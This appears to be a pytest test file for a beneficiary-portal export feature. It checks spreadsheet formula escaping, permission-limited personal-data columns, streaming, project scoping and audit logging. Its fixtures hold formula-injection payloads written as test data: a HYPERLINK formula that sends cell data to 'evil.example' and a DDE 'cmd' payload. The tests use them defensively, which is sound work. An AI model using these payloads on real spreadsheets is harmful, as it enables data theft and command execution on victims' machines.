"""Beneficiary exports: formula escaping, personal data by permission, streaming, XLSX cells that
are strings and never formulas, the list's filters and scope, and the audit entry."""

from __future__ import annotations

import csv
import inspect
import io
import json
import threading
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from portal.accounts.services import save_role
from portal.audit.models import AuditEntry
from portal.beneficiaries import exports
from portal.beneficiaries import services as beneficiaries
from portal.beneficiaries.services import ListQuery
from portal.extensions import db
from portal.projects import services as projects

RECORD_HEADERS = ["Reference", "Status", "Gender", "Language", "Projects", "Enrolled"]
PII_HEADERS = [
    "Reference",
    "Name",
    "Phone",
    "National ID",
    "Date of birth",
    "Location",
    *RECORD_HEADERS[1:],
]


@pytest.fixture
def manager(make_user):
    return make_user("programme manager")


@pytest.fixture
def project(make_project, manager):
    return make_project(name="=Project HYPERLINK", status="active", members=[manager])


@pytest.fixture
def exporter_without_pii(make_user, manager, project):
    role = save_role(None, "exporter", "", {"beneficiary.read", "beneficiary.export"})
    user = make_user("viewer")
    user.role = role
    projects.set_members(project, {manager.id, user.id})
    return user


@pytest.fixture
def people(project, make_beneficiary):
    return [
        make_beneficiary(
            project=project,
            name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            phone="9841000001",
            location="@SUM(1+1)*cmd|' /C calc'!A0",
        ),
        make_beneficiary(project=project, name="Sita Tamang", phone="9841000002", gender="female"),
        make_beneficiary(
            project=project,
            name="-2+3",
            phone="9841000003",
            national_id="NP-12345",
            status="inactive",
        ),
    ]


def in_own_app_context(request):
    """Make a request from another thread: there Flask pushes the request's own app context
    and tears it down (ending its session) before the response body is iterated."""
    result = {}
    thread = threading.Thread(target=lambda: result.update(response=request()))
    thread.start()
    thread.join(30)
    return result["response"]


def _csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _export(client, fmt: str = "csv", **filters):
    return client.post(f"/beneficiaries/export.{fmt}", data=filters)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+9779841000001", "+9779841000001"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2", "-2"),
        ("-2.50", "-2.50"),
        ("-2+3", "'-2+3"),
        ("+1 2", "'+1 2"),
        ("+१२", "'+१२"),
        ("+1e5", "'+1e5"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Sita Tamang", "Sita Tamang"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_formula_looking_values_get_an_apostrophe(value, expected):
    assert exports.escape_cell(value) == expected


# What a spreadsheet evaluates: after the apostrophe rule, a cell starts with a formula
# character only when it is a sign and ASCII digits alone, which evaluates to that number.
_FORMULA_TEXT = st.builds(
    lambda lead, first, rest: lead + first + rest,
    st.sampled_from(["", " ", "  \n"]),
    st.sampled_from(exports.FORMULA_START),
    st.text(max_size=12),
)


@given(st.one_of(_FORMULA_TEXT, st.text(max_size=16)))
def test_no_cell_can_run_as_a_formula(value):
    cell = exports.escape_cell(value)
    start = cell.lstrip(" \n")
    if start.startswith(exports.FORMULA_START):
        assert exports.PLAIN_NUMBER.fullmatch(start)
        float(start.replace(",", "."))  # a number to any reader


@given(st.sampled_from(["+", ""]), st.integers(min_value=1, max_value=999), st.integers(0, 10**12))
def test_phone_numbers_are_exported_as_they_are(plus, country, subscriber):
    phone = f"{plus}{country}{subscriber}"
    assert exports.escape_cell(phone) == phone


def test_csv_with_personal_data_escapes_every_text_cell(client, login, manager, people):
    login(client, manager)
    response = _export(client, "csv", sort="ref")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    rows = _csv(response)
    assert rows[0] == PII_HEADERS
    assert len(rows) == 1 + len(people)
    by_ref = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    first, second, third = (by_ref[p.ref] for p in people)
    assert first["Name"] == "'" + people[0].pii.name
    assert first["Location"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["Phone"] == "+9779841000001"
    assert first["Projects"] == "'=Project HYPERLINK"
    assert second["Name"] == "Sita Tamang" and second["Gender"] == "female"
    assert third["Name"] == "'-2+3" and third["National ID"] == "NP12345"
    assert third["Status"] == "inactive"
    for row in rows:
        for cell in row:
            formula_like = cell.startswith(exports.FORMULA_START)
            assert not formula_like or exports.PLAIN_NUMBER.fullmatch(cell), cell


def test_csv_without_personal_data_permission_has_no_personal_columns(
    client, login, exporter_without_pii, people
):
    login(client, exporter_without_pii)
    response = _export(client, "csv")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    rows = _csv(response)
    assert rows[0] == RECORD_HEADERS
    assert sorted(r[0] for r in rows[1:]) == sorted(p.ref for p in people)
    for person in people:
        assert person.pii.phone.lstrip("+") not in body
    assert "Sita" not in body and "HYPERLINK(" not in body and "NP12345" not in body


def test_export_needs_its_permission(client, login, make_user, project, people):
    viewer = make_user("viewer")  # may read the list, may not export it
    projects.set_members(project, {viewer.id})
    login(client, viewer)
    assert _export(client, "csv").status_code == 403
    assert _export(client, "xlsx").status_code == 403


def test_unknown_format_is_not_found(client, login, manager):
    login(client, manager)
    assert _export(client, "pdf").status_code == 404


def test_csv_is_streamed_from_a_generator_in_batches(client, login, manager, people, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 2)
    export = exports.prepare(manager, ListQuery())
    chunks = exports.csv_chunks(export)
    assert inspect.isgenerator(chunks)
    # Header with the first batch, the second batch, the rest: never the whole file at once.
    parts = list(chunks)
    assert len(parts) == 2
    assert parts[0].count(b"\r\n") == 1 + 2 and parts[1].count(b"\r\n") == 1

    login(client, manager)
    refs = sorted(p.ref for p in people)
    for fmt in ("csv", "xlsx"):
        response = client.post(f"/beneficiaries/export.{fmt}", data={"sort": "ref"}, buffered=False)
        assert response.is_streamed
        assert not isinstance(response.response, list | tuple | bytes)
        response.close()
        # As a real server runs it: the view's app context (and its session) is torn down
        # before the body streams, so the rows must not lean on objects the view loaded.
        response = in_own_app_context(
            lambda fmt=fmt: client.post(
                f"/beneficiaries/export.{fmt}", data={"sort": "ref"}, buffered=True
            )
        )
        if fmt == "csv":
            assert [r[0] for r in _csv(response)[1:]] == refs
        else:
            book = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
            assert [r[0] for r in book.active.iter_rows(min_row=2, values_only=True)] == refs
            book.close()


def test_export_follows_the_list_filters(
    client, login, manager, people, make_project, make_beneficiary
):
    other = make_project(name="Other", status="active", members=[manager])
    elsewhere = make_beneficiary(project=other, name="Hari", phone="9841000009")
    login(client, manager)

    only_other = _csv(_export(client, "csv", project=str(other.id)))
    assert [r[0] for r in only_other[1:]] == [elsewhere.ref]

    inactive = _csv(_export(client, "csv", status="inactive"))
    assert [r[0] for r in inactive[1:]] == [people[2].ref]

    by_phone = _csv(_export(client, "csv", q="9841000002"))
    assert [r[0] for r in by_phone[1:]] == [people[1].ref]

    everyone = _csv(_export(client, "csv", sort="ref"))
    assert [r[0] for r in everyone[1:]] == sorted(p.ref for p in [*people, elsewhere])


def test_export_is_limited_to_the_users_projects(
    client, login, exporter_without_pii, project, people, make_project, make_beneficiary
):
    secret = make_project(name="Secret project", status="active")
    hidden = make_beneficiary(project=secret, name="Hidden", phone="9841000010")
    # In both projects: exported, but the project the user is not in is not named.
    both = make_beneficiary(project=project, name="Both", phone="9841000011")
    beneficiaries.add_to_project(both, secret)
    login(client, exporter_without_pii)
    rows = _csv(_export(client, "csv"))
    refs = {r[0]: r for r in rows[1:]}
    assert hidden.ref not in refs
    assert refs[both.ref][4] == "'=Project HYPERLINK"
    assert "Secret project" not in json.dumps(rows)


def test_xlsx_opens_and_every_cell_is_a_string_never_a_formula(client, login, manager, people):
    login(client, manager)
    response = _export(client, "xlsx", sort="ref")
    assert response.status_code == 200
    assert response.mimetype == exports.FORMATS["xlsx"]
    data = response.get_data()

    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw and "<f " not in raw  # no formula element anywhere
    assert raw.count('t="inlineStr"') == (1 + len(people)) * len(PII_HEADERS)

    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == PII_HEADERS
    assert len(rows) == 1 + len(people)
    for row in rows:
        for cell in row:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            text = str(cell.value or "")
            assert not text.startswith(exports.FORMULA_START) or exports.PLAIN_NUMBER.fullmatch(
                text
            )
    by_ref = {row[0].value: [c.value for c in row] for row in rows[1:]}
    first = by_ref[people[0].ref]
    assert first[1] == "'" + people[0].pii.name
    assert first[2] == "+9779841000001"
    assert first[5] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_ref[people[2].ref][1] == "'-2+3"


def test_xlsx_is_streamed(client, login, manager, people, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 1)
    export = exports.prepare(manager, ListQuery())
    chunks = exports.xlsx_chunks(export)
    assert inspect.isgenerator(chunks)
    parts = [part for part in chunks if part]
    assert len(parts) >= len(people)  # a piece per batch of rows, not one blob at the end
    book = openpyxl.load_workbook(io.BytesIO(b"".join(parts)), read_only=True)
    assert sum(1 for _ in book.active.iter_rows()) == 1 + len(people)
    book.close()


def test_xlsx_without_personal_data(client, login, exporter_without_pii, people):
    login(client, exporter_without_pii)
    data = _export(client, "xlsx").get_data()
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = [[c.value for c in row] for row in book.active.iter_rows()]
    assert values[0] == RECORD_HEADERS
    flat = json.dumps(values)
    assert "Sita" not in flat and "9841000002" not in flat


def test_xlsx_drops_characters_xml_cannot_hold(client, login, manager, project, make_beneficiary):
    make_beneficiary(project=project, name="Bell\x07 and tab\tname", phone="9841000020")
    login(client, manager)
    book = openpyxl.load_workbook(io.BytesIO(_export(client, "xlsx").get_data()))
    assert book.active["B2"].value == "Bell and tab\tname"


def test_export_is_audited_without_personal_data(client, login, manager, people):
    login(client, manager)
    _export(client, "csv", q="9841000002", status="active")
    _export(client, "xlsx")
    entries = db.session.scalars(
        select(AuditEntry)
        .where(AuditEntry.action == "beneficiaries.exported")
        .order_by(AuditEntry.seq)
    ).all()
    assert len(entries) == 2
    first, second = entries
    assert first.actor_id == manager.id
    assert first.summary == "1 beneficiaries exported to CSV with personal data"
    assert json.loads(first.data)["rows"] == 1 and json.loads(first.data)["pii"] is True
    assert json.loads(first.data)["filters"]["search"] is True
    assert second.summary == "3 beneficiaries exported to XLSX with personal data"
    for entry in entries:
        text = entry.summary + entry.data
        assert "9841000002" not in text and "Sita" not in text


def test_export_without_personal_data_is_audited_as_such(
    client, login, exporter_without_pii, people
):
    login(client, exporter_without_pii)
    _export(client, "csv")
    entry = db.session.scalar(
        select(AuditEntry).where(AuditEntry.action == "beneficiaries.exported")
    )
    assert entry.summary == "3 beneficiaries exported to CSV without personal data"
    assert json.loads(entry.data)["pii"] is False


def test_list_page_offers_the_exports_with_its_filters(client, login, manager, people, project):
    login(client, manager)
    page = client.get(f"/beneficiaries/?project={project.id}&status=active").get_data(as_text=True)
    assert 'action="/beneficiaries/export.csv"' in page
    assert 'action="/beneficiaries/export.xlsx"' in page
    assert f'name="project" value="{project.id}"' in page
    assert 'name="status" value="active"' in page
    assert "/cards/lookup" in page


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_characters_of_old_rows_are_never_exported(
    client, login, manager, project, make_beneficiary, fmt
):
    """The input rule refuses them now; a row written before it may still hold some."""
    make_beneficiary(
        project=project,
        name="Esc\x1b[31m bell\x07 c1\x9b del\x7f",
        phone="9841000021",
        location="line\none",
    )
    login(client, manager)
    body = _export(client, fmt).get_data()
    if fmt == "csv":
        text = body.decode("utf-8")
    else:
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            text = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    for char in "\x1b\x07\x9b\x7f":
        assert char not in text
    assert "Esc[31m bell c1 del" in text


def test_the_audit_csv_holds_no_control_characters_and_no_formulas(client, login, make_user):
    from portal.audit import services as audit

    admin = make_user("admin")
    audit.record("test.old", "=HYPERLINK(\x1b\x07)", actor_id=admin.id, actor_label="Admin")
    login(client, admin)
    text = client.get("/audit/export.csv").get_data(as_text=True)
    assert "\x1b" not in text and "\x07" not in text
    assert "'=HYPERLINK()" in text
